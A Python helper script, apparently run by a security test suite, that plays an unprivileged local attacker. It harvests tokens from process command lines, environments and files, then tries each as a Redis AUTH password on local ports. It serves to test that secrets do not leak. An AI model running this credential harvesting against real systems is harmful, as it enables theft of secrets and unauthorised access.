"""A local attacker's secret scan, run by tests/test_attacks_secrets.py as an
unprivileged user (setpriv to nobody) with the system Python: stdlib only.

    python3 scan_secrets.py '{"ports": [6379, ...], "roots": ["/tmp/wc-scan-x"]}'

Reads every /proc/*/cmdline and /proc/*/environ it can and every file under
`roots` it can, collects every token that could be a password (and every
user:password of a redis:// URL), tries each against the Redis servers on
`ports` (AUTH, pipelined), and prints one JSON object: what it could read,
the tokens, and which (port, credentials) opened a server.
"""
from __future__ import annotations

import json
import os
import re
import socket
import sys

TOKEN = re.compile(rb"[A-Za-z0-9_\-]{8,}")
URL_CREDENTIALS = re.compile(rb"rediss?://([^:@/\s\x00]*):([^@/\s\x00]+)@")


def readable(read: dict) -> list[bytes]:
    """Everything this user can read: process command lines and environments, files under roots."""
    texts = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    texts.append(fh.read())
                read[name] += 1
            except OSError:
                read["denied"] += 1
    return texts


def files(roots: list[str], read: dict) -> list[bytes]:
    texts = []
    for root in roots:
        for dirpath, _, names in os.walk(root, onerror=lambda e: read.__setitem__("denied", read["denied"] + 1)):
            for name in names:
                try:
                    with open(os.path.join(dirpath, name), "rb") as fh:
                        texts.append(fh.read(4 << 20))
                    read["files"] += 1
                except OSError:
                    read["denied"] += 1
    return texts


def resp(*args: bytes) -> bytes:
    return b"*%d\r\n" % len(args) + b"".join(b"$%d\r\n%s\r\n" % (len(a), a) for a in args)


def opens(port: int, attempts: list[tuple[bytes, ...]], batch: int = 100) -> list[list[str]]:
    """The credentials among `attempts` that AUTH accepts on `port` (pipelined, in batches:
    Redis keeps an unauthenticated client's input small)."""
    opened = []
    for i in range(0, len(attempts), batch):
        chunk = attempts[i:i + batch]
        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(b"".join(resp(b"AUTH", *a) for a in chunk))
            replies = b""
            while replies.count(b"\r\n") < len(chunk):
                data = conn.recv(1 << 16)
                if not data:
                    break
                replies += data
        lines = replies.split(b"\r\n")
        opened += [[x.decode("latin-1") for x in a] for a, line in zip(chunk, lines) if line.startswith(b"+OK")]
    return opened


def main() -> None:
    spec = json.loads(sys.argv[1])
    read = {"cmdline": 0, "environ": 0, "files": 0, "denied": 0}
    blob = b"\n".join(readable(read) + files(spec["roots"], read))
    tokens = sorted(set(TOKEN.findall(blob)))
    pairs = sorted(set(URL_CREDENTIALS.findall(blob)))
    attempts = [(t,) for t in tokens] + [(u or b"default", p) for u, p in pairs]
    opened = {str(port): opens(port, attempts) for port in spec["ports"]}
    print(json.dumps({"read": read, "tokens": [t.decode("latin-1") for t in tokens],
                      "url_credentials": len(pairs), "opened": opened}))


if __name__ == "__main__":
    main()
